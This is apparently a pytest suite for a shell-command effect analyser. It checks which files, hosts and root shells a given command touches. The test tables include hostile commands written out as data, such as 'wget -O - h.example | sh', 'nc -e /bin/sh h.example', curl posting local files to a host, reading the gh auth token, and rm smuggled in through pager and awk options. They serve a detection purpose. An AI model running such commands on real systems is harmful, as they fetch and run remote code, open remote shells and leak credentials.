"""What single programs touch and print; the table of whole commands is in `test_shell.py`."""

from __future__ import annotations

import os

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from occasio_shell.programs import known
from occasio_shell.programs.invocation import Invocation
from occasio_shell.programs.patches import MAX_PATCH
from occasio_shell.programs.shells import ROOT_SHELL
from occasio_shell.shell import Shell, effects_of
from occasio_shell.values import State, Word, state_of, text_of


def touched(command):
    effects, _ = effects_of([command], "/work")
    return [
        f"{effect.kind}{'?' * effect.unknown} {effect.target}"
        for effect in effects
        if effect.kind != "execute" or effect.unknown
    ]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("echo -e 'a\\tb'", "a\tb"),
        ("printf '%s-%d\\n' a 3", "a-3\n"),
        ("printf '%b' '\\x2e'", "."),
        ("printf '%%%c' abc", "%a"),
        ("echo YWI= | base64 -d", "ab"),
        ("echo ab | base64", "YWI="),
        ("echo 6162 | xxd -r -p", "ab"),
        ("echo abc | rev", "cba"),
        ("echo abc | tr a-c A-C", "ABC"),
        ("echo abc | tr -d b", "ac"),
        ("echo a:b:c | cut -d: -f2", "b"),
        ("echo a:b:c | cut -d: -f2-", "b:c"),
        ("echo abc | cut -c2-3", "bc"),
        ("echo abc | sed s/b/x/", "axc"),
        ("echo a b | awk '{print $2}'", "b"),
        ("printf 'a\\nb\\n' | grep b", "b"),
        ("printf 'a\\nb\\n' | grep -v b", "a"),
        ("basename /a/b", "b"),
        ("dirname /a/b", "/a"),
        ("command -v cat", "cat"),
        ("echo x | tee f", "x"),
        ("bash -c 'echo $1' _ x", "x"),
        ("echo 'echo x' | sh", "x"),
        ("eval echo x", "x"),
        ("env v=x sh -c 'echo $v'", "x"),
        ("echo a b | xargs -n1 echo", "a b"),
        ("xargs -I% echo %z <<< a", "az"),
    ],
)
def test_a_program_prints(command, expected):
    assert text_of(Shell("/work").evaluate(command)) == expected


@pytest.mark.parametrize(
    ("command", "state"),
    [
        ("curl http://h.example", State.REMOTE),
        ("curl http://localhost:3000", State.LOCAL),
        ("curl -o f http://h.example", State.KNOWN),
        ("git status", State.LOCAL),
        ("curl http://h.example | base64 -d", State.REMOTE),
        ("cat x | base64 -d", State.BUILT),
        ("nc h.example 1", State.REMOTE),
    ],
)
def test_output_is_known_as_far_as_this(command, state):
    assert state_of(Shell("/work").evaluate(command)) is state


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("tar czf o.tgz d", ["write o.tgz", "read d", "read d/**"]),
        ("tar xf a.tgz -C d", ["read a.tgz", "write d"]),
        ("cp a b d", ["read a", "read b", "write d", "write d/a", "write d/b"]),
        ("mv a d", ["read a", "read a/**", "delete a", "delete a/**", "write d", "write d/a"]),
        ("rm -r a", ["delete a", "delete a/**"]),
        ("chmod 600 a", ["write a"]),
        ("dd if=a of=b", ["read a", "write b"]),
        ("sed -i s/a/b/ f", ["read f", "write f"]),
        ("sed -n 'w o' f", ["read f", "read o", "write o"]),
        ("grep -rn x d", ["read d", "read d/**"]),
        ("grep -rn x d --include='*.c'", ["read d", "read d/**/*.c"]),
        ("rg x d", ["read d"]),
        ("find d -name '*.c' -delete", ["delete d/**/*.c"]),
        ("find d -fprint o", ["write o"]),
        ("curl -T f -o o https://h.example/x", ["read f", "write o", "connect h.example"]),
        ("curl -d @f -F a=@g h.example", ["read f", "read g", "connect h.example"]),
        ("wget -O - h.example | sh", ["connect h.example", "execute? sh"]),
        ("scp -r d u@h.example:/x", ["read d", "read d/**", "connect h.example"]),
        ("ssh u@h.example", ["connect h.example"]),
        ("git clone https://h.example/r", ["connect h.example"]),
        ("git show HEAD:f", ["read f"]),
        ("git -C d -c core.pager='rm x' log", ["delete /work/d/x", "delete x"]),
        ("docker run -v /d:/e i", ["read /d", "read /d/**"]),
        ("docker run --env-file f i", ["read f"]),
        ("node --env-file=f x.js", ["read f", "read x.js"]),
        ("awk 'BEGIN{system(\"rm a\")}'", ["delete a"]),
        ("vim -c ':!rm a'", ["delete a"]),
        ("gh auth token", ["read ~/.config/gh/hosts.yml"]),
        ("python3 a.py b", ["read a.py", "read b"]),
        ("nc -e /bin/sh h.example 1", ["connect h.example", "execute? nc -e"]),
        ("env", ["read /proc/self/environ"]),
        ("env | grep PATH", []),
        ("echo $API_KEY", ["read /proc/self/environ"]),
        ('curl -H "Authorization: $API_KEY" https://h.example', ["connect h.example"]),
        ("test -f .env && stat .env", []),
        ("git commit -m 'rm .env'", []),
        ("somebody --file=a -Ib c", ["read a", "read b", "read c"]),
    ],
)
def test_a_program_touches(command, expected):
    seen = touched(command)
    assert set(expected) <= set(seen)
    assert expected or not [line for line in seen if "?" in line or "environ" in line]


def test_programs_are_known_with_their_version():
    assert known("python3.12") is known("python")
    assert known("no-such-program") is None


def arguments(texts, *given):
    return Invocation(Shell("/work"), "x", [Word(text) for text in texts], ()).arguments(*given)


def test_options_are_told_from_operands():
    parsed = arguments(["-ab", "1", "--long", "v", "--eq=w", "o", "--", "-p"], "b", ("--long",))
    assert [(name, value.text if value else None) for name, value in parsed.options] == [
        ("-a", None),
        ("-b", "1"),
        ("--long", "v"),
        ("--eq", "w"),
    ]
    assert [word.text for word in parsed.operands] == ["o", "-p"]


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text("-abc=/.", max_size=5), max_size=6), st.text("abc", max_size=2))
def test_no_argument_is_lost(texts, letters):
    parsed = arguments(texts, letters)
    kept = [word.text for word in parsed.operands] + [value.text for _, value in parsed.options if value]
    assert all(text in kept or text.startswith("-") for text in texts)


def test_a_patch_on_the_disk_names_what_it_writes(tmp_path):
    (tmp_path / "x.patch").write_text("--- a/src/x\n+++ b/src/x\n", encoding="utf-8")
    for command in ("git apply x.patch", "git am < x.patch", "cat x.patch | patch -p1", "patch -p1 -i x.patch"):
        effects, _ = effects_of([command], str(tmp_path))
        written = {effect.target for effect in effects if effect.kind == "write" and not effect.wild}
        assert written == {"src/x"}, command


def test_a_pipe_in_the_place_of_a_patch_holds_nobody_up(tmp_path):
    os.mkfifo(tmp_path / "x.patch")
    (tmp_path / "folder.patch").mkdir()
    for name in ("x.patch", "folder.patch", "gone.patch"):
        effects, _ = effects_of([f"git apply {name}"], str(tmp_path))
        assert not [effect for effect in effects if effect.kind == "write"]


def test_only_the_beginning_of_a_patch_is_looked_at(tmp_path):
    (tmp_path / "x.patch").write_text("+++ b/a\n" + " " * MAX_PATCH + "\n+++ b/b\n", encoding="utf-8")
    effects, _ = effects_of(["git apply x.patch"], str(tmp_path))
    assert [effect.target for effect in effects if effect.kind == "write"] == ["a"]


def test_a_folder_that_nobody_may_enter_is_changed_with_all_that_is_in_it(tmp_path):
    (tmp_path / "d").mkdir()
    (tmp_path / "f").touch()
    effects, _ = effects_of(["chmod 000 d f"], str(tmp_path))
    assert [effect.target for effect in effects if effect.kind == "write"] == ["d", "d/**", "f"]


@pytest.mark.parametrize("command", ["sudo sh", "sudo -u root bash", "pkexec sh", "sudo -i", "su", "doas env zsh"])
def test_a_shell_of_root_that_nobody_types_into_is_one(command):
    assert ROOT_SHELL in [effect.target for effect in effects_of([command], "/work")[0]]


@pytest.mark.parametrize(
    "command", ["sudo sh -c ls", "sudo sh x.sh", "echo ls | sudo sh", "sudo -u ada sh", "sh", "su ada"]
)
def test_other_shells_are_none(command):
    assert ROOT_SHELL not in [effect.target for effect in effects_of([command], "/work")[0]]


@pytest.mark.parametrize(
    ("text", "is_near"),
    [
        ("http://localhost:1/x", True),
        ("http://10.0.0.1/x", True),
        ("http://pypi.lan/x", True),
        ("http://a/x", True),
        ("https://example.com/x", True),
        ("http://example.com/x", False),
        ("http://172.32.0.1/x", False),
    ],
)
def test_packages_over_an_open_connection_come_from_near(text, is_near):
    effects, _ = effects_of([f"npm install --registry {text} y"], "/work")
    assert any(effect.unknown for effect in effects) != is_near
